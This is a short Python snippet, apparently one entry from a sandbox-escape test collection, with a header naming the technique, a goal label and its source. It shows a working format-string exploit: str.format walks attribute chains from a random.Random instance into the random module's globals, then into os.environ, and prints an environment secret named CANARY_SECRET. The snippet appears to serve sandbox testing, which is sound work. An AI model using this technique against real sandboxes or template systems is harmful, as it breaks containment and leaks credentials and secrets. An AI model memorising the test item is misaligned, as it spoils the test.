# Technique: str.format resolves attribute chains inside replacement fields with the real getattr:
#            "{0.__init__.__globals__}" renders a host module's namespace (the random module's, which holds _os)
# Goal: b (print CANARY_SECRET)
# Source: classic (format-string attribute access); written for codeloop against str.format rather than Formatter
# Requires: stdlib (random)
import random

template = "{0.seed.__func__.__globals__[_os].environ[CANARY_SECRET]}"
print(template.format(random.Random()))
